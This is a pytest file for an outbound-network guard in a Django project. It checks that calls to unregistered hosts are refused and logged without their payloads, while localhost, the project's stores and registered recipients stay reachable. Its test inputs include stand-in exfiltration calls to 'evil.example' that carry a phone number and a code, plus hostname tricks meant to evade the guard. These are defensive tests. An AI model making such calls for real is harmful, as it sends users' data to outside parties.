"""Code reaches this machine, its stores and registered recipients; anything else is refused and shown."""

import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from kit.outbound import OutboundRefused, refused

ROOT = Path(__file__).resolve().parents[2]
ELSEWHERE = "192.0.2.1"  # reserved for documentation: nobody answers there

PREPARED = """
import logging, socket, sys
from django.conf import settings
settings.configure(DATABASES={"default": {"HOST": "198.51.100.7"}, "minors": {"HOST": "/run/pg"}},
                   REDIS_URL="redis://:secret@cache.internal:6379/0")
logging.basicConfig(stream=sys.stderr, level=logging.ERROR, format="%(levelname)s %(host)s %(message)s")
from kit import outbound
outbound.install()
outbound.install()

def tried(work):
    try:
        work()
    except OSError as error:
        reason = getattr(error, "reason", error)  # urllib wraps what it gets
        return "refused" if isinstance(reason, outbound.OutboundRefused) else "through"
    return "through"

def connect(host, family=socket.AF_INET):
    with socket.socket(family) as sock:
        sock.settimeout(0.01)
        sock.connect((host, 9))
"""


def guarded(script: str) -> subprocess.CompletedProcess[str]:
    """Run in a process of its own: a guard once installed stays."""
    return subprocess.run(
        [sys.executable, "-W", "error", "-c", PREPARED + textwrap.dedent(script)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def said(expression: str) -> str:
    done = guarded(f"print({expression})")
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.mark.parametrize(
    "work",
    [
        f"connect('{ELSEWHERE}')",
        "connect('2001:db8::1', socket.AF_INET6)",
        "connect('::ffff:192.0.2.1', socket.AF_INET6)",
        "socket.getaddrinfo('evil.example', 443)",
        "socket.getaddrinfo(b'evil.example', 443)",
        f"socket.getaddrinfo('{ELSEWHERE}', 443)",
        "socket.gethostbyname('evil.example')",
        "socket.gethostbyname_ex('evil.example')",
        "socket.gethostbyaddr('192.0.2.1')",
        "socket.getnameinfo(('192.0.2.1', 80), 0)",
        "socket.create_connection(('evil.example', 443), 1)",
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{ELSEWHERE}', 53))",
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect_ex(('{ELSEWHERE}', 53))",
        "socket.getaddrinfo('localhost.evil.example', 443)",
        "socket.getaddrinfo('127.0.0.1.evil.example', 443)",
        "socket.getaddrinfo('cache.internal.evil.example', 443)",
        "__import__('urllib.request').request.urlopen('http://evil.example/?phone=13800138000')",
        "__import__('http.client').client.HTTPSConnection('evil.example').request('GET', '/')",
    ],
)
def test_strangers_are_refused(work: str) -> None:
    done = guarded(f"""
        print(tried(lambda: {work}))
        print(len(outbound.refused))
    """)
    assert done.stdout.split() == ["refused", "1"], done.stderr


@pytest.mark.parametrize(
    "work",
    [
        "connect('127.0.0.1')",
        "connect('127.8.9.10')",
        "connect('localhost')",
        "connect('::1', socket.AF_INET6)",
        "connect('::ffff:127.0.0.1', socket.AF_INET6)",
        "socket.getaddrinfo('LOCALHOST', 80)",
        "socket.getaddrinfo(None, 80)",
        "socket.getaddrinfo('', 80)",
        "socket.socket(socket.AF_UNIX).connect('/nonexistent.sock')",
        "socket.create_server(('127.0.0.1', 0)).close()",
        "connect('198.51.100.7')",
        "socket.getaddrinfo('cache.internal', 6379)",
    ],
)
def test_this_machine_and_its_stores_are_reached(work: str) -> None:
    assert said(f"tried(lambda: {work}), len(outbound.refused)") == "through 0"


def test_a_registered_recipient_is_reached_by_name_and_by_what_it_resolves_to() -> None:
    done = guarded("""
        outbound.allow("SMS.example")
        print(tried(lambda: socket.getaddrinfo("sms.example", 443)))
        print(tried(lambda: connect("192.0.2.55")))
        outbound._resolved.add("192.0.2.55")
        print(tried(lambda: connect("192.0.2.55")))
    """)
    assert done.stdout.splitlines() == ["through", "refused", "through"], done.stderr


def test_what_an_allowed_name_resolves_to_is_learnt() -> None:
    done = guarded("""
        socket.getaddrinfo("localhost", 80)
        print(bool(outbound._resolved & {"127.0.0.1", "::1"}))
    """)
    assert done.stdout.strip() == "True", done.stderr


def test_a_refusal_is_logged_without_what_was_being_sent() -> None:
    done = guarded("""
        import urllib.error, urllib.request
        try:
            urllib.request.urlopen("http://evil.example/path?phone=13800138000&code=123456")
        except urllib.error.URLError as error:
            print(type(error.reason).__name__)
    """)
    assert done.stdout.strip() == "OutboundRefused"
    assert "ERROR evil.example" in done.stderr
    assert "13800138000" not in done.stderr
    assert "123456" not in done.stderr


def test_a_call_to_a_stranger_turns_a_test_red(tmp_path: Path) -> None:
    careless = tmp_path / "test_careless.py"
    careless.write_text(
        textwrap.dedent(f"""
        import socket
        from django.conf import settings
        settings.configure(DATABASES={{}}, REDIS_URL="redis://127.0.0.1")
        from kit import outbound
        from tests.outbound import only_registered_hosts
        outbound.install()

        def test_swallows():
            try:
                socket.create_connection(("{ELSEWHERE}", 443), 1)
            except OSError:
                pass

        def test_innocent():
            pass
        """)
    )
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-p",
            "no:django",
            "-p",
            "no:cacheprovider",
            "-c",
            "/dev/null",
            careless,
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "2 passed, 1 error" in done.stdout
    assert f"code tried to reach {ELSEWHERE}" in done.stdout


def test_this_process_is_guarded() -> None:
    with pytest.raises(OutboundRefused):
        socket.create_connection((ELSEWHERE, 443), 1)
    refused.clear()
